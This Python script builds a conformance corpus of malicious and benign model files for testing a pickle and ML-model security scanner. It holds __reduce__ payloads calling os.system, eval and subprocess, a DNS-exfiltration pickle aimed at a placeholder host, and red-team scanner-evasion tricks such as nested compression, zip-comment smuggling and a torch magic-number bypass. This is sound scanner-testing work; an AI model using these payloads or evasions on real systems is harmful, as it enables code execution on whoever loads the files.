#!/usr/bin/python3
"""Recreate the CLASSES of input that other scanners' test suites use (picklescan, modelaudit,
modelscan, fickling; see docs/conformance.md), written by our own code, into
__tests__/fixtures/peers/ with a manifest.tsv (name, expectation, what made it) and a README.md.

Run with Debian's interpreter, or a venv made from it with --system-site-packages plus
`pip install dill cloudpickle` (dill cases are skipped when dill is absent):
  /usr/bin/python3 -m venv --system-site-packages /tmp/peervenv && /tmp/peervenv/bin/pip install dill cloudpickle
  /tmp/peervenv/bin/python scripts/make-peer-corpus.py

Nothing written here is ever loaded: payload classes only define __reduce__ and are pickled.
Expectations (the conformance test reads them):
  report  found (any kind but data) or kind unknown, under its own name and under a neutral name
  any     a finding of any kind (data counts), under both names
  data    exactly one finding, kind data, under both names
  quiet   no finding under either name
  named   reported under its own name; quiet under a neutral name (e.g. a PNG named .pt)
"""
import bdb
import builtins
import functools
import gzip
import http.client
import io
import json
import os
import pickle
import pydoc
import runpy
import socket
import struct
import subprocess
import sys
import tarfile
import tempfile
import types
import venv
import zipfile
import zlib

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, '..', '__tests__', 'fixtures', 'peers')
MANIFEST = []


def sibling(name):
    """A module from another fixture script beside this one (their names have hyphens)."""
    import importlib.util
    spec = importlib.util.spec_from_file_location(name.replace('-', '_'), os.path.join(HERE, f'{name}.py'))
    module = importlib.util.module_from_spec(spec)
    sys.path.insert(0, HERE)
    spec.loader.exec_module(module)
    return module


pb_field = sibling('make-fixtures').pb_field
_zip_bytes = sibling('make-fixtures-tolerance').zip_bytes


def zip_of(members, method=zipfile.ZIP_DEFLATED):
    return _zip_bytes(members, method)


def emit(name, data, expect, what):
    assert expect in ('report', 'any', 'data', 'quiet', 'named'), expect
    assert '\t' not in what and name not in [m[0] for m in MANIFEST], name
    with open(os.path.join(OUT, name), 'wb') as f:
        f.write(data)
    MANIFEST.append((name, expect, what))


def fake_callable(module, qualname):
    """A function pickle names as module.qualname (a library not installed here): never called."""
    mod = sys.modules.get(module) or types.ModuleType(module)
    sys.modules[module] = mod
    def stand_in(*args, **kwargs):
        raise RuntimeError('never called')
    stand_in.__module__ = module
    stand_in.__qualname__ = stand_in.__name__ = qualname
    setattr(mod, qualname, stand_in)
    return stand_in


class Payload:
    """Pickles as `call(*args)`: the shape of every __reduce__ payload in the peers' suites."""

    def __init__(self, call, args):
        self.call, self.args = call, args

    def __reduce__(self):
        return (self.call, self.args)


# ---------------------------------------------------------------- picklescan: __reduce__ payloads
def reduce_payloads():
    import torch
    return {
        'eval': (builtins.eval, ("print('456')",)),
        'exec': (builtins.exec, ("print('456')",)),
        'os_system': (os.system, ('ls -la',)),
        'https_connection': (http.client.HTTPSConnection, ('example.invalid',)),
        'requests_get': (fake_callable('requests', 'get'), ('https://example.invalid',)),
        'aiohttp_session': (fake_callable('aiohttp', 'ClientSession'), ()),
        'socket_connect': (socket.create_connection, (('example.invalid', 80),)),
        'subprocess_run': (subprocess.run, (['ls', '-l'],)),
        'sys_exit': (sys.exit, (0,)),
        'pickle_loads': (pickle.loads, (b'I12345\n.',)),
        'runpy_run_code': (runpy._run_code, ("print('x')", {})),
        'bdb_run': (bdb.Bdb.run, ('print(1)',)),
        'pydoc_pipepager': (pydoc.pipepager, ('', 'cat')),
        'venv_create': (venv.create, ('/tmp/never',)),
        'pip_main': (fake_callable('pip', 'main'), (['install', 'some-package'],)),
        'partial_torch_load': (functools.partial(torch.load, 'model.pt', weights_only=False), ()),
    }


def make_reduce_pickles():
    for label, (call, args) in reduce_payloads().items():
        for proto in range(6):
            try:
                data = pickle.dumps(Payload(call, args), protocol=proto)
            except (pickle.PicklingError, TypeError, AttributeError) as error:
                print(f'skip {label} protocol {proto}: {error}', file=sys.stderr)
                continue
            emit(f'reduce_{label}_p{proto}.pkl', data, 'report', f'pickle.dumps of a __reduce__ to {label}, protocol {proto}')
    for proto in (0, 3, 4):
        emit(f'benign_list_p{proto}.pkl', pickle.dumps(['a', 'b', 'c'], protocol=proto), 'data',
             f'pickle of ["a","b","c"], protocol {proto}')


# ---------------------------------------------------------------- picklescan / modelaudit: hand-written streams
def u32(n):
    return struct.pack('<I', n)


def binunicode(text):
    raw = text.encode()
    return b'X' + u32(len(raw)) + raw


def short_unicode(text):
    raw = text.encode()
    return b'\x8c' + bytes([len(raw)]) + raw


def tiny_call(module, name, arg):
    """modelaudit's bypass PoCs: PROTO 2, GLOBAL, one BINUNICODE argument, TUPLE1, REDUCE, STOP."""
    return b'\x80\x02c' + f'{module}\n{name}\n'.encode() + binunicode(arg) + b'\x85R.'


def make_hand_streams():
    sour = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'print(1)'\nS''\nS'exec'\ntRp101\n0"
            b"c__builtin__\neval\n(g101\ng100\ntRp104\ng104\n.")
    emit('sour_globals_compile_p0.pkl', sour, 'report', 'protocol 0: globals(), compile(...), eval(code, globals) memoized')
    emit('inst_exec_p0.pkl', b"(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n.", 'report',
         'protocol 0 INST opcode calling exec')
    memo = b'Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.'
    emit('memo_decoy_no_proto.pkl', memo, 'report', 'no PROTO; names memoized then popped, decoy torch.LongStorage, STACK_GLOBAL os.system')
    emit('memo_decoy_junk_after_stop.pkl', memo + b'\n\n\t\t', 'report', 'the same followed by junk after STOP')
    emit('broken_binunicode_length.pkl', b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('x'); f.close()tRX.",
         'report', 'GLOBAL exec, MARK, then a BINUNICODE whose length prefix is garbage (stream breaks off)')
    memoize_all = (b'\x80\x04' + short_unicode('operator') + b'\x94' + short_unicode('attrgetter') + b'\x94\x93\x94' +
                   short_unicode('system') + b'\x94\x85\x94R\x94' + short_unicode('builtins') + b'\x94' +
                   short_unicode('__import__') + b'\x94\x93\x94' + short_unicode('os') + b'\x94\x85\x94R\x94\x85\x94R\x94' +
                   short_unicode('echo pwned') + b'\x94\x85\x94R\x94.')
    emit('attrgetter_import_memoized_p4.pkl', memoize_all, 'report',
         'protocol 4: operator.attrgetter("system")(__import__("os"))("echo pwned"), MEMOIZE after every push')
    evil = pickle.dumps(Payload(os.system, ('echo two',)), protocol=4)
    emit('benign_then_malicious.pkl', pickle.dumps(['a', 'b', 'c']) + evil, 'report', 'two streams: a list, then os.system')
    emit('dict_then_eval.pkl', pickle.dumps({'model': 'safe_weights'}) + pickle.dumps(Payload(eval, ('1',))), 'report',
         'two streams: {"model": "safe_weights"}, then eval')
    emit('stack_global_os_system.pkl', pickle.dumps(Payload(os.system, ('id',)), protocol=pickle.HIGHEST_PROTOCOL),
         'report', 'HIGHEST_PROTOCOL os.system via STACK_GLOBAL')
    emit('memo_subprocess_call.pkl', pickle.dumps([Payload(subprocess.call, (['id'],))] * 3, protocol=4), 'report',
         'subprocess.call referenced three times through the memo')
    for module, name, arg in [('ctypes', 'CDLL', 'libc.so.6'), ('cProfile', 'run', 'print(1)'), ('pdb', 'run', 'print(1)'),
                              ('timeit', 'timeit', 'print(1)'), ('profile', 'run', 'print(1)'),
                              ('zipimport', 'zipimporter', '/tmp/x.zip'), ('linecache', 'getline', '/etc/passwd')]:
        emit(f'tiny_{module}_{name}.pkl', tiny_call(module, name, arg), 'report', f'{module}.{name} in a {len(tiny_call(module, name, arg))}-byte protocol 2 stream')
    emit('tiny_thread_newobj.pkl', b'\x80\x02c_thread\nallocate_lock\n)\x81.', 'report', '_thread.allocate_lock through EMPTY_TUPLE + NEWOBJ')
    emit('tiny_ctypes_cast_mark.pkl', b'\x80\x02cctypes\ncast\n(K\x00cctypes\nc_void_p\ntR.', 'report', 'ctypes.cast with a MARK-built tuple')
    emit('tiny_logging_listen.pkl', b'\x80\x02clogging.config\nlisten\n(M90tR.', 'report', 'logging.config.listen(port)')
    emit('nested_pickle_in_bytes.pkl', pickle.dumps({'payload': pickle.dumps(Payload(os.system, ('id',)))}, protocol=4),
         'any', 'a pickle whose bytes sit as a value inside a plain-data pickle (not loaded by loading the outer one)')


# ---------------------------------------------------------------- dill, cloudpickle, joblib
def make_serializer_dumps():
    import joblib
    evil = Payload(os.system, ('id',))
    for method in ('zlib', 'gzip', 'bz2', 'xz', 'lzma'):
        buf = io.BytesIO()
        joblib.dump(evil, buf, compress=(method, 3))
        emit(f'joblib_{method}_payload.joblib', buf.getvalue(), 'report', f'joblib.dump of os.system payload, compress={method}')
    buf = io.BytesIO()
    joblib.dump(evil, buf)
    emit('joblib_payload.joblib', buf.getvalue(), 'report', 'joblib.dump of os.system payload')
    try:
        import dill
        import cloudpickle
    except ImportError:
        print('dill/cloudpickle absent: their cases skipped', file=sys.stderr)
        return
    emit('dill_payload.pkl', dill.dumps(evil), 'report', 'dill.dumps of os.system payload')
    emit('dill_lambda.pkl', dill.dumps(lambda x: x + 1), 'report', 'dill.dumps of a lambda (code object rebuilt on load)')
    emit('cloudpickle_lambda.pkl', cloudpickle.dumps(lambda x: x * 2), 'report', 'cloudpickle.dumps of a lambda')


# ---------------------------------------------------------------- archives
def set_flag(data, bit):
    """Sets a general-purpose flag bit on every local and central header (the member stays in the clear)."""
    out = bytearray(data)
    for sig, at in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
        pos = out.find(sig)
        while pos >= 0:
            struct.pack_into('<H', out, pos + at, struct.unpack_from('<H', out, pos + at)[0] | bit)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def seven_zip(options, members):
    """An archive the 7z CLI (p7zip-full) writes from files in a temporary folder."""
    with tempfile.TemporaryDirectory() as tmp:
        for name, data in members.items():
            with open(os.path.join(tmp, name), 'wb') as f:
                f.write(data)
        target = os.path.join(tmp, 'out.archive')
        subprocess.run(['7z', 'a', '-bd', '-bso0', *options, target, *members], cwd=tmp, check=True)
        with open(target, 'rb') as f:
            return f.read()


def make_archives():
    evil = pickle.dumps(Payload(os.system, ('id',)), protocol=2)
    deflated = zip_of({'data.pkl': evil})
    stored = zip_of({'data.pkl': evil}, zipfile.ZIP_STORED)
    emit('zip_data_pkl.zip', deflated, 'report', 'zipfile: data.pkl (os.system) deflated')
    emit('zip_data_pkl_stored.zip', stored, 'report', 'zipfile: data.pkl stored')
    emit('zip_member_txt.zip', zip_of({'data.txt': evil}), 'report', 'zipfile: the pickle as member data.txt')
    emit('zip_local_central_mismatch.zip', stored.replace(b'data.pkl', b'datap.kl', 1), 'report',
         'local header name datap.kl, central directory data.pkl')
    for bit in (0x1, 0x20, 0x40):
        emit(f'zip_flag_0x{bit:x}.zip', set_flag(stored, bit), 'report', f'flag bit 0x{bit:x} set on a member stored in the clear')
    bad_crc = bytearray(stored)
    for sig, at in ((b'PK\x03\x04', 14), (b'PK\x01\x02', 16)):
        pos = bad_crc.find(sig)
        bad_crc[pos + at:pos + at + 4] = b'\xde\xad\xbe\xef'
    emit('zip_wrong_crc.zip', bytes(bad_crc), 'report', 'CRC-32 wrong in both headers')
    emit('zip_in_zip.zip', zip_of({'inner.zip': deflated}), 'report', 'a zip holding a zip holding data.pkl')
    emit('zip_path_traversal.zip', zip_of({'../../evil/data.pkl': evil}), 'report', 'member name ../../evil/data.pkl')
    emit('zip_password_zipcrypto.zip', seven_zip(['-tzip', '-psecret', '-mem=ZipCrypto'], {'data.pkl': evil}), 'report',
         'really encrypted (ZipCrypto): must be unknown')
    emit('zip_password_aes.zip', seven_zip(['-tzip', '-psecret', '-mem=AES256'], {'data.pkl': evil}), 'report',
         'really encrypted (AES-256, method 99): must be unknown')
    emit('seven_zip_data_pkl.7z', seven_zip(['-t7z'], {'data.pkl': evil}), 'report', '7z archive holding data.pkl')
    emit('seven_zip_encrypted_headers.7z', seven_zip(['-t7z', '-psecret', '-mhe=on'], {'data.pkl': evil}), 'report',
         '7z with encrypted headers')
    emit('safe_pickle.zip', zip_of({'model.pkl': pickle.dumps({'w': [1.0, 2.0]})}), 'data', 'a zip holding a plain-data pickle')


# ---------------------------------------------------------------- PyTorch, NumPy
def make_torch():
    import torch
    net = torch.nn.Linear(2, 2)
    buf = io.BytesIO()
    torch.save(net.state_dict(), buf)
    emit('pytorch_model.bin', buf.getvalue(), 'report', 'torch.save(state_dict) named pytorch_model.bin')
    buf = io.BytesIO()
    torch.save(net, buf)
    emit('new_pytorch_model.bin', buf.getvalue(), 'report', 'torch.save of a whole nn.Module')
    buf = io.BytesIO()
    torch.save({'weights': net.state_dict(), 'hook': Payload(os.system, ('id',))}, buf)
    emit('unsafe_zip_pytorch.pt', buf.getvalue(), 'report', 'torch zip whose data.pkl calls os.system')
    buf = io.BytesIO()
    torch.save(net.state_dict(), buf, _use_new_zipfile_serialization=False)
    legacy = buf.getvalue()
    emit('pytorch_magic_bypass.pt', pickle.dumps(Payload(os.system, ('id',)), protocol=2) + legacy, 'report',
         'legacy torch stream with a payload where the magic-number pickle should be')
    emit('bad_pytorch.pt', b'\x89PNG\r\n\x1a\n', 'named', 'only the PNG signature, named .pt')


def npy_bytes(array):
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


def npz_bytes(compressed=False, **arrays):
    buf = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buf, **arrays)
    return buf.getvalue()


def make_numpy():
    objects = np.empty((2, 2), dtype=object)
    ints = np.arange(6, dtype=np.int64).reshape(2, 3)
    emit('object_array.npy', npy_bytes(objects), 'any', 'np.empty((2,2), dtype=object) saved')
    emit('int_array.npy', npy_bytes(ints), 'quiet', 'an int64 array (data)')
    emit('object_arrays.npz', npz_bytes(a=objects, b=objects), 'any', 'np.savez of two object arrays')
    emit('object_arrays_compressed.npz', npz_bytes(True, a=objects, b=objects), 'any', 'np.savez_compressed of object arrays')
    emit('int_arrays.npz', npz_bytes(a=ints, b=ints), 'quiet', 'np.savez of int arrays')
    emit('int_arrays_compressed.npz', npz_bytes(True, a=ints, b=ints), 'quiet', 'np.savez_compressed of int arrays')
    exfil = np.empty((1,), dtype=object)
    exfil[0] = Payload(socket.gethostbyname, ('leak.example.invalid',))
    emit('dns_exfiltration.npy', npy_bytes(exfil), 'report', 'an object array whose pickle calls socket.gethostbyname')


# ---------------------------------------------------------------- Keras, SavedModel, safetensors
LAMBDA = {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': ['4wEAAAAAAAAA', None, None]}}


def keras_config(nested=False):
    layers = [{'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 2], 'name': 'in'}},
              {'class_name': 'Dense', 'config': {'units': 2, 'name': 'dense'}}, LAMBDA]
    model = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': layers}}
    if nested:
        model = {'class_name': 'Functional', 'config': {'name': 'outer', 'layers': [model], 'input_layers': [],
                                                         'output_layers': []}}
    return json.dumps(model)


def keras_h5(config):
    import h5py
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, 'm.h5')
        with h5py.File(path, 'w') as f:
            f.attrs['keras_version'] = '2.11.0'
            f.attrs['backend'] = 'tensorflow'
            f.attrs['model_config'] = config
            f.create_group('model_weights').create_dataset('dense/kernel:0', data=np.ones((2, 2), 'f4'))
        with open(path, 'rb') as fh:
            return fh.read()


def keras_v3(config):
    import h5py
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, 'w.h5')
        with h5py.File(path, 'w') as f:
            f.create_group('layers').create_group('dense').create_group('vars').create_dataset('0', data=np.ones((2, 2), 'f4'))
        with open(path, 'rb') as fh:
            weights = fh.read()
    meta = json.dumps({'keras_version': '3.0.0', 'date_saved': '2024-01-01@00:00:00'})
    return zip_of({'metadata.json': meta, 'config.json': config, 'model.weights.h5': weights})


def saved_model_with_file_ops():
    """SavedModel proto: schema version 1, a meta graph tagged serve whose graph reads and writes files."""
    nodes = b''.join(pb_field(1, pb_field(1, name) + pb_field(2, op))
                     for name, op in [('path', 'Const'), ('read', 'ReadFile'), ('write', 'WriteFile')])
    meta_info = pb_field(4, 'serve') + pb_field(5, '2.15.0')
    return pb_field(1, 1) + pb_field(2, pb_field(1, meta_info) + pb_field(2, nodes))


def safetensors_of(header, tensor=np.arange(6, dtype='<f4').tobytes(), length=None):
    text = json.dumps(header).encode()
    text += b' ' * (-len(text) % 8)
    return struct.pack('<Q', len(text) if length is None else length) + text + tensor


def make_graph_formats():
    emit('keras_lambda.h5', keras_h5(keras_config()), 'report', 'Keras HDF5 (h5py) whose model_config holds a Lambda layer')
    emit('keras_lambda_nested.h5', keras_h5(keras_config(True)), 'report', 'Lambda in a Sequential inside a Functional model')
    emit('keras_lambda.keras', keras_v3(keras_config()), 'report', 'Keras v3 zip (config.json with Lambda, model.weights.h5)')
    emit('keras_lambda_nested.keras', keras_v3(keras_config(True)), 'report', 'Keras v3 zip, nested Lambda')
    emit('saved_model.pb', saved_model_with_file_ops(), 'report', 'SavedModel proto with ReadFile/WriteFile ops')
    weights = {'w': {'dtype': 'F32', 'shape': [2, 3], 'data_offsets': [0, 24]}}
    emit('valid.safetensors', safetensors_of(weights), 'report', 'safetensors, one F32 tensor')
    emit('header_length_lies.safetensors', safetensors_of(weights, length=1 << 40), 'report',
         'safetensors whose header length exceeds the file')
    emit('metadata_odd_values.safetensors', safetensors_of({'__metadata__': {'n': 3, 'nested': {'a': [1]}}, **weights}),
         'report', 'safetensors whose __metadata__ values are not strings')


# ---------------------------------------------------------------- quiet look-alikes
def png_bytes():
    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
    raw = b''.join(b'\0' + bytes([x * 60, 255 - x * 60, 128]) * 4 for x in range(4))
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 4, 4, 8, 2, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b''))


def make_quiet():
    emit('model_card.md', b'# Model card\n\nThis model was trained on public data. See config.json.\n', 'quiet', 'markdown')
    emit('image.png', png_bytes(), 'quiet', 'a 4x4 PNG')
    emit('table.csv', b'id,age,label\n1,34,0\n2,51,1\n3,29,0\n', 'quiet', 'CSV')
    emit('config.json', json.dumps({'architectures': ['BertModel'], 'hidden_size': 768, 'num_attention_heads': 12,
                                    'model_type': 'bert', 'torch_dtype': 'float32'}, indent=2).encode(), 'quiet',
         'a Hugging Face style config.json')
    emit('tokenizer_config.json', json.dumps({'do_lower_case': True, 'model_max_length': 512}).encode(), 'quiet',
         'tokenizer config')
    emit('params.yaml', b'train:\n  lr: 0.001\n  epochs: 10\nmodel:\n  type: knn\n', 'quiet', 'YAML parameters')
    emit('notes.txt.gz', gzip.compress(b'plain notes, nothing else\n' * 20, mtime=0), 'quiet', 'gzip of plain text')
    emit('dict_model_string.pkl', pickle.dumps({'model': 'safe_weights'}, protocol=2), 'data', 'pickle of {"model": "safe_weights"}')


# ---------------------------------------------------------------- red team: real models changed so loaders still open them
def make_red_team():
    import lz4.frame
    import lzma
    import zstandard
    models = os.path.join(os.path.dirname(OUT), 'models')
    knn = open(os.path.join(models, 'knn_p4.pkl'), 'rb').read()
    knn0 = open(os.path.join(models, 'knn_p0.pkl'), 'rb').read()
    emit('rt_knn_junk_after.pkl', knn + bytes(range(256)), 'report', 'red team: k-NN pickle with 256 junk bytes after STOP')
    emit('rt_zstd_xz_gzip.pkl.zst', zstandard.ZstdCompressor().compress(lzma.compress(gzip.compress(knn, mtime=0))),
         'report', 'red team: k-NN pickle in gzip in xz in zstd')
    emit('rt_lz4_frame.pkl.lz4', lz4.frame.compress(knn), 'report', 'red team: k-NN pickle in an lz4 frame')
    emit('rt_gzip_empty_first_member.gz', gzip.compress(b'', mtime=0) + gzip.compress(knn, mtime=0), 'report',
         'red team: gzip whose first member is empty')
    inner = zip_of({'model.pkl': knn})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        z.writestr(zipfile.ZipInfo('README.txt', (2024, 1, 1, 0, 0, 0)), 'hello')
        z.comment = inner
    emit('rt_zip_in_comment.zip', buf.getvalue(), 'report', 'red team: a benign zip whose comment is a zip holding the model (zipfile opens the inner one)')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        with z.open(zipfile.ZipInfo('data.pkl', (2024, 1, 1, 0, 0, 0)), 'w', force_zip64=True) as f:
            f.write(knn)
    emit('rt_zip64_member.zip', buf.getvalue(), 'report', 'red team: zip64 member')
    emit('rt_zip_duplicate_names.zip', duplicate_names_zip(pickle.dumps([1]), knn), 'report',
         'red team: two members named a.pkl, a data pickle then the model')
    emit('rt_tar_longlink.tar', tar_of({'a/' * 80 + 'model.pkl': knn}, tarfile.GNU_FORMAT), 'report',
         'red team: GNU ././@LongLink name')
    emit('rt_tar_pax_path.tar', tar_of({'b/' * 80 + 'model.pkl': knn}, tarfile.PAX_FORMAT), 'report', 'red team: pax path record')
    long_text = b'(dp0\nVpad\np1\nV' + b'x' * 70000 + b'\np2\nsVmodel\np3\n' + knn0[:-1] + b's.'
    emit('rt_p0_long_string_then_knn.pkl', long_text, 'report', 'red team: protocol 0 dict with a 70 KB string, then the k-NN model')
    oid = 'a' * 64
    for label, text in [('crlf', f'version https://git-lfs.github.com/spec/v1\r\noid sha256:{oid}\r\nsize 12345\r\n'),
                        ('git_media', f'version http://git-media.io/v/2\noid sha256:{oid}\nsize 12345\n'),
                        ('ext_line', f'version https://git-lfs.github.com/spec/v1\next-0-foo sha256:{oid}\noid sha256:{oid}\nsize 9\n')]:
        emit(f'rt_lfs_pointer_{label}.bin', text.encode(), 'report', f'red team: LFS pointer variant the client accepts ({label})')


def duplicate_names_zip(first, second):
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        with zipfile.ZipFile(buf, 'w') as z:
            z.writestr(zipfile.ZipInfo('a.pkl', (2024, 1, 1, 0, 0, 0)), first)
            z.writestr(zipfile.ZipInfo('a.pkl', (2024, 1, 1, 0, 0, 0)), second)
    return buf.getvalue()


def tar_of(members, fmt):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=fmt) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def write_manifest():
    with open(os.path.join(OUT, 'manifest.tsv'), 'w') as f:
        f.write('# name\texpect\twhat made it (written by scripts/make-peer-corpus.py)\n')
        for row in MANIFEST:
            f.write('\t'.join(row) + '\n')
    with open(os.path.join(OUT, 'README.md'), 'w') as f:
        f.write('# Peer-suite classes and red-team variants\n\nWritten by `scripts/make-peer-corpus.py` (our code, after the classes listed in\n'
                'docs/conformance.md). Expectations: report = found or unknown under its own name and a neutral name;\n'
                'any = a finding of any kind; data = kind data; quiet = no finding; named = reported under its own name only.\n\n'
                '| file | expect | what made it |\n| --- | --- | --- |\n')
        for name, expect, what in MANIFEST:
            f.write(f'| `{name}` | {expect} | {what} |\n')


def main():
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        os.remove(os.path.join(OUT, name))
    make_reduce_pickles()
    make_hand_streams()
    make_serializer_dumps()
    make_archives()
    make_torch()
    make_numpy()
    make_graph_formats()
    make_quiet()
    make_red_team()
    write_manifest()
    print(f'{len(MANIFEST)} files in {OUT}')


if __name__ == '__main__':
    main()
